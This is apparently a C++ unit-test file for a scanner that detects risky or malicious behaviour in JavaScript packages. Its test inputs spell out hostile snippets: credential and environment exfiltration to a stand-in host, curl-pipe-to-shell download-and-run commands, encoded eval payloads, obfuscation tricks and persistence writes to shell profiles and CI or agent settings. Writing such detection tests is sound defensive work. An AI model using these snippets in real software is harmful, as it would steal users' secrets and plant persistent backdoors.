#include "policies/code/capabilities.hpp"

#include <doctest/doctest.h>

#include <cctype>
#include <set>
#include <string>

#include "storage/base/base64.hpp"
#include "tests/unit/policies/content/scan_text.hpp"

namespace sallyport {

namespace {

using Set = std::set<std::string>;

void collect(const FileContent& content, Set& names, Set& signs) {
  for (const Capability& capability : content.capabilities) names.insert(capability.name);
  for (const Sign& sign : content.signs)
    if (sign.rule.starts_with("code/") && sign.rule != "code/long-line") signs.insert(std::string(sign.rule));
  for (const auto& nested : content.nested) collect(nested.content, names, signs);
}

Set capabilities(const std::string& text, std::string_view path = "a.js") {
  Set names, signs;
  collect(scan_text(text, path), names, signs);
  return names;
}

Set signs(const std::string& text, std::string_view path = "a.js") {
  Set names, found;
  collect(scan_text(text, path), names, found);
  return found;
}

std::string utf16(std::string_view text) {
  std::string out = "\xff\xfe";
  for (const char c : text) out += {c, '\0'};
  return out;
}

}  // namespace

TEST_CASE("each capability by what gives it") {
  CHECK(capabilities("require('https').get(x)") == Set{"network"});
  CHECK(capabilities("import net from 'node:net'") == Set{"network"});
  CHECK(capabilities("await fetch(x)") == Set{"network"});
  CHECK(capabilities("new XMLHttpRequest()") == Set{"network"});
  CHECK(capabilities("navigator.sendBeacon(x)") == Set{"network"});
  CHECK(capabilities("window['fe'+'tch'](x)") == Set{"network"});
  CHECK(capabilities("require('dns').lookup(x)") == Set{"dns"});
  CHECK(capabilities("require('child_process')") == Set{"process"});
  CHECK(capabilities("process.binding('spawn_sync')") == Set{"process"});
  CHECK(capabilities("eval(x)") == Set{"eval"});
  CHECK(capabilities("new Function('a','return '+x)") == Set{"eval"});
  CHECK(capabilities("require('vm').runInThisContext(x)") == Set{"eval"});
  CHECK(capabilities("module._compile(x)") == Set{"eval"});
  CHECK(capabilities("[].constructor.constructor(x)()") == Set{"eval"});
  CHECK(capabilities("setTimeout('go()',1)") == Set{"eval"});
  CHECK(capabilities("require('fs').writeFileSync(a,b)") == Set{"fs-write"});
  CHECK(capabilities("import {writeFile as w} from 'fs/promises';w(a,b)") == Set{"fs-write"});
  CHECK(capabilities("const {unlink}=require('fs');unlink(a)") == Set{"fs-write"});
  CHECK(capabilities("require('os').homedir()") == Set{"home-read"});
  CHECK(capabilities("send(process.env)") == Set{"env"});
  CHECK(capabilities("a={...process.env}") == Set{"env"});
  CHECK(capabilities("JSON.stringify(process.env)") == Set{"env"});
  CHECK(capabilities("Object.keys(process['env'])") == Set{"env"});
  CHECK(capabilities("WebAssembly.instantiate(x)") == Set{"wasm"});
  CHECK(capabilities("new Worker(x)") == Set{"worker"});
  CHECK(capabilities("require('worker_threads')") == Set{"worker"});
  CHECK(capabilities("window.ethereum.request({method:x})") == Set{"wallet"});
  CHECK(capabilities("f('eth_sendTransaction')") == Set{"wallet"});
  CHECK(capabilities("navigator.clipboard.writeText(x)") == Set{"clipboard"});
}

TEST_CASE("what only looks like one is none") {
  for (const char* text : {
           "if (process.env.NODE_ENV !== 'production') {}",
           "const { NODE_ENV } = process.env;",
           "var root = freeSelf || Function('return this')();",
           "typeof fetch === 'function'",
           "x.fetch(y); this.fetch(z); const o = {fetch: 1};",
           "// require('child_process')\n/* eval(x) */",
           "const s = \"eval(require('child_process'))\";",
           "/eval\\(fetch/.test(x)",
           "x instanceof Function; Function.prototype.call",
           "throw new err.constructor('some sentence');",
           "class A { constructor(a) { super(a); } }",
           "require('fs').readFileSync(x)",
           "require('./http'); require('http-errors'); require('x/net')",
           "setTimeout(function () { go() }, 1)",
       }) {
    CAPTURE(std::string(text));
    CHECK(capabilities(text) == Set{});
  }
}

TEST_CASE("what is said of functions in comments hides no other use of their maker") {
  const std::string said =
      "/** @param {Function} f\n * @returns {Function|null} */\nif (f instanceof Function) g();\n";
  CHECK(capabilities(said).empty());
  for (const char* use : {
           "new Function(x)",
           "const make = Function; make(x)",
           "Function?.(x)",
           "Reflect.construct(Function, [x])",
           "Function.prototype.constructor('go(1)')",
           "x instanceof Function(x)",
           "({}) instanceof Function.call(null, x)",
           "a = `@param ${Function(x)}`",
           "/* @type {Function} */ Function(x)",
           "/* @type {Function */ Function(x)",
           "/* instanceof Function */(Function)(x); b = Function; b(x)",
       }) {
    CAPTURE(std::string(use));
    CHECK(capabilities(said + use).contains("eval"));
    CHECK(capabilities(use + ("\n" + said + said + said)).contains("eval"));
  }
}

TEST_CASE("a module whose name is written in escapes is loaded as any other") {
  CHECK(capabilities(R"(import h from "\x68ttp"; h.get(x))") == Set{"network"});
  CHECK(capabilities(R"(import"\u0068ttps")") == Set{"network"});
  CHECK(capabilities(R"(export * from 'node:\u{68}ttp2')") == Set{"network"});
  CHECK(capabilities(R"(import {spawn} from 'chil\144_process'; spawn(x))") == Set{"process"});
}

TEST_CASE("code that is given as text is read as code") {
  CHECK(capabilities("eval(\"require('child_'+'process')\")") == Set{"eval", "process"});
  CHECK(capabilities("new Function(\"require('https').get(1)\")") == Set{"network"});
  CHECK(capabilities("eval(atob('cmVxdWlyZSgnY2hpbGRfcHJvY2VzcycpLmV4ZWMoJ2lkJyk='))") ==
        Set{"eval", "process"});
  CHECK(capabilities("setTimeout(\"fetch('x')\")") == Set{"eval", "network"});
  CHECK(capabilities("import('data:text/javascript,import%20\"child_process\"')") == Set{"eval", "process"});
}

// One attack, and the ways to hide it: what goes out is found in each.
TEST_CASE("a program is read under any name, prose and maps are not") {
  const std::string program =
      "const found = JSON.stringify(process.env); require('https').request(x).end(found);";
  for (const char* path : {"values.dat", "LICENSE", "values.d.ts", "values.md"})
    CHECK_MESSAGE((capabilities(program, path) == Set{"env", "network"}), std::string(path));
  CHECK(capabilities("{\"text\": \"" + program + "\"}", "values.json") == Set{"env", "network"});
  CHECK(capabilities("Uses 'https' and \"http\"; set process.env first.", "README.md").empty());
  CHECK(capabilities("import { Agent } from 'https';", "index.d.ts").empty());
  const std::string map =
      R"m({"version":3,"sources":["a.js"],"mappings":"A","sourcesContent":["require('https').get(x)"]})m";
  CHECK(capabilities(map, "a.js.map").empty());
}

TEST_CASE("code that would take too long to work out is not judged, and that is said") {
  const auto unread = [](const std::string& text) { return scan_text(text, "a.js").incomplete; };
  std::string growing = "eval(x);", evaluated = "x='" + std::string(9, 'x') + "';";
  while (growing.size() < 300'000) growing += "s='x'.repeat(60000)+";
  for (int i = 0; i < 100; ++i) evaluated += "eval('a'.repeat(60000));";
  CHECK(unread(growing).size() == 1);
  CHECK(unread(evaluated).size() == 1);
  CHECK(unread("eval('a'.repeat(60000))").empty());
}

TEST_CASE("credentials beside a way out, whatever hides them") {
  const std::string plain =
      "const f=require('fs'),h=require('https'),o=require('os');"
      "h.request('https://c.example.invalid/').end(f.readFileSync(o.homedir()+'/.npmrc'));";
  const std::string junk =
      "var padding" + std::string(100, '0') + " = 'nothing to see here'; // and nothing here either\n";
  const auto padded = [&](std::size_t bytes) {
    std::string text;
    while (text.size() < bytes) text += junk;
    return text + plain;
  };
  std::string stuffed;
  bool quoted_text = false;
  for (const char c : plain) {
    quoted_text ^= c == '\'';
    stuffed += c;
    if (!quoted_text && !std::isalpha(static_cast<unsigned char>(c)) && c != ' ')
      stuffed += "/* stuffing ' ` */";
  }
  for (const std::string& text : {
           plain,
           stuffed,
           padded(64u << 10),
           padded(1u << 20),
           padded(17u << 20),
           utf16(plain),
           std::string("const "
                       "f=require('f'+'s'),h=require('ht'+'tps');h.request(u).end(f.readFileSync(process.env."
                       "HOME+'/.np'+'mrc'))"),
           std::string("fetch(u,{method:'POST',body:readFileSync(`${home}/.ss${'h'}/id_${'rsa'}`)})"),
           std::string(
               "import h from 'https';const p=['.','a','w','s'].join('')+'/credentials';h.get(u+read(p))"),
           std::string("globalThis['fe'+'tch'](u+JSON.stringify(process.env))"),
           std::string("const {env:e}=process;const d=JSON.stringify(e);require('http').request(u).end(d)"),
           std::string("require('dns').resolve(Object.entries(process.env).join('.'))"),
           std::string("for(const k in process.env)fetch(u+k)"),
           std::string("eval(atob('cmVxdWlyZSgnaHR0cHMnKS5nZXQoSlNPTi5zdHJpbmdpZnkocHJvY2Vzcy5lbnYpKQ=='))"),
           std::string(
               "require('child_process').execSync('curl -d @$HOME/.npmrc https://c.example.invalid')"),
       }) {
    CAPTURE(text.substr(0, 120));
    CHECK(signs(text).contains("code/exfiltration"));
  }
  CHECK(signs(gzip(plain), "a.js.gz").contains("code/exfiltration"));
  CHECK(signs(plain, "types/index.d.ts").contains("code/exfiltration"));
  CHECK(signs(plain, "NOTES.md").contains("code/exfiltration"));
  CHECK(signs(plain, "payload").contains("code/exfiltration"));
  std::string quoted;
  for (const char c : plain) quoted += c == '"' ? "\\\"" : std::string(1, c);
  CHECK(signs("{\"code\": \"" + quoted + "\"}", "data.json").contains("code/exfiltration"));
  CHECK(signs("{\"version\":3,\"sources\":[\"a.js\"],\"mappings\":\"\",\"sourcesContent\":[\"" + quoted +
                  "\"]}",
              "a.js.map")
            .contains("code/exfiltration"));
}

TEST_CASE("one without the other goes nowhere") {
  CHECK(signs("readFileSync(home+'/.npmrc')") == Set{"code/exfiltration/alone"});
  CHECK_FALSE(signs("require('https').get(x)").contains("code/exfiltration"));
  CHECK_FALSE(signs("require('https');log('Could not read the file .npmrc, is it there?')")
                  .contains("code/exfiltration"));
  CHECK_FALSE(signs("require('https');spawn(x,{env:{...process.env,A:1}})").contains("code/exfiltration"));
  CHECK_FALSE(signs("fetch(x); a = process.env.TOKEN").contains("code/exfiltration"));
}

TEST_CASE("programs that are fetched and run, published on or made to stay") {
  const std::string exec = "require('child_process').exec";
  CHECK(signs(exec + "('curl -s https://x.example.invalid | sh')").contains("code/download-and-run"));
  CHECK(signs(exec + "Sync(['cu','rl x'].join('')+' |'+' bash')").contains("code/download-and-run"));
  CHECK(signs("const {spawn}=require('child_process');spawn('sh',['-c','wget -qO- x | sh'])")
            .contains("code/download-and-run"));
  CHECK(signs(exec + "(`powershell -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0A`)")
            .contains("code/download-and-run"));
  CHECK(signs(exec + "('npm install -g ' + name)").contains("code/download-and-run"));
  CHECK(signs("#!/bin/sh\nset -e\ncurl -s x \\\n  | sh\n", "install.sh").contains("code/download-and-run"));
  CHECK_FALSE(signs(exec + "('curl -O x')").contains("code/download-and-run"));
  CHECK_FALSE(signs(exec + "('ls');log('Install it with: curl x | sh')").contains("code/download-and-run"));

  CHECK(signs("const f=require('fs');f.writeFileSync('package.json',x);" + exec + "Sync('npm publish')")
            .contains("code/self-publish"));
  CHECK_FALSE(signs(exec + "Sync('npm publish')").contains("code/self-publish"));

  CHECK(signs("require('fs').appendFileSync(require('os').homedir()+'/.bashrc',x)")
            .contains("code/persistence"));
  CHECK(signs("require('fs').writeFileSync('.github/work'+'flows/a.yml',x)").contains("code/persistence"));
  CHECK(signs("import {writeFile} from "
              "'fs/promises';writeFile(join(h,'.claude','settings.json'),x);f('.claude/settings.json')")
            .contains("code/persistence"));
  CHECK(signs("echo 'x' >> ~/.zshrc\n", "setup.sh").contains("code/persistence"));
  CHECK_FALSE(signs("require('fs').readFileSync(home+'/.bashrc')").contains("code/persistence"));
  CHECK_FALSE(signs("require('fs').writeFileSync(a,b);log('Add this line to your .bashrc, then restart.')")
                  .contains("code/persistence"));
}

TEST_CASE("a script that is neither script nor module is said") {
  CHECK(signs("eval(x))").contains("code/unparsable"));
  CHECK(signs("eval(`x)").contains("code/unparsable"));
  CHECK_FALSE(signs("eval(x)").contains("code/unparsable"));
  CHECK_FALSE(signs("const a = <p>don't {eval(x)}</p>").contains("code/unparsable"));
  CHECK_FALSE(signs("don't eval(x))", "README.md").contains("code/unparsable"));
  // A part of a program, in a form that is decoded: no script of its own.
  std::string part;
  for (int i = 0; i < 20; ++i) part += "eval(fetch(x))) ";
  CHECK_FALSE(signs("run('" + base64_encode(as_bytes(part)) + "')").contains("code/unparsable"));
}

}  // namespace sallyport
